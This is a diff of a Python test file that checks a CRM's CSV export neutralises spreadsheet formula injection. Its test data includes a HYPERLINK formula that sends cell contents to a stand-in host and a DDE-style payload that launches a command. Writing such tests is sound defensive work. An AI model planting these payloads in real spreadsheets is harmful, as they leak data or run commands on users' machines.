@@ -7,8 +7,9 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from crm.spreadsheets import BEGINS_FORMULA, BYTE_ORDER_MARK, cell, csv_response, lines
+from crm.csv_rows import as_written, csv_lines, csv_response, safe_cell
 
+FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
 HOSTILE = [
     '=HYPERLINK("https://mau.example/?"&A1,"Clique")',
     "+cmd|' /C calc'!A0",
@@ -25,28 +26,27 @@ HOSTILE = [
 
 @pytest.mark.parametrize("written", HOSTILE)
 def test_no_cell_begins_as_a_formula(written: str) -> None:
-    assert cell(written) == f"'{written}"
+    assert safe_cell(written) == f"'{written}"
 
 
-@pytest.mark.parametrize(("value", "shown"), [("Ana", "Ana"), (None, ""), (-12.5, "-12.5"), (7, "7"), ("a=b", "a=b")])
+@pytest.mark.parametrize(("value", "shown"), [("Ana", "Ana"), (None, ""), (7, "7"), ("a=b", "a=b")])
 def test_what_is_harmless_stays_as_it_is(value: object, shown: str) -> None:
-    assert cell(value) == shown
+    assert safe_cell(value) == shown
 
 
 @settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
 @given(st.lists(st.tuples(st.text(max_size=20), st.text(max_size=20)), min_size=1, max_size=3))
 def test_what_is_read_back_is_what_was_written_and_never_a_formula(rows: list[tuple[str, str]]) -> None:
-    text = "".join(lines(rows))
-    assert text.startswith(BYTE_ORDER_MARK)
-    found = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=";"))
+    text = "".join(csv_lines(["a", "b"], rows)).removeprefix("\ufeff")
+    found = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
     assert len(found) == len(rows)
     for row, line in zip(rows, found, strict=True):
         for written, read in zip(row, line, strict=True):
-            assert not read.lstrip().startswith(BEGINS_FORMULA)
-            assert read.removeprefix("'") == written.replace("\x00", "").removeprefix("'")
+            assert not read.lstrip().startswith(FORMULAS)
+            assert as_written(read) == written
 
 
 def test_it_is_saved_and_not_shown() -> None:
-    answer = csv_response("contatos.csv", [["nome"], ["=1+1"]])
+    answer = csv_response("contatos.csv", ["nome"], [["=1+1"]])
     assert answer.headers["Content-Disposition"] == 'attachment; filename="contatos.csv"'
-    assert b"'=1+1" in b"".join(answer.streaming_content)  # type: ignore[arg-type] # not an async one
+    assert "'=1+1" in b"".join(answer.streaming_content).decode()  # type: ignore[arg-type] # not an async one
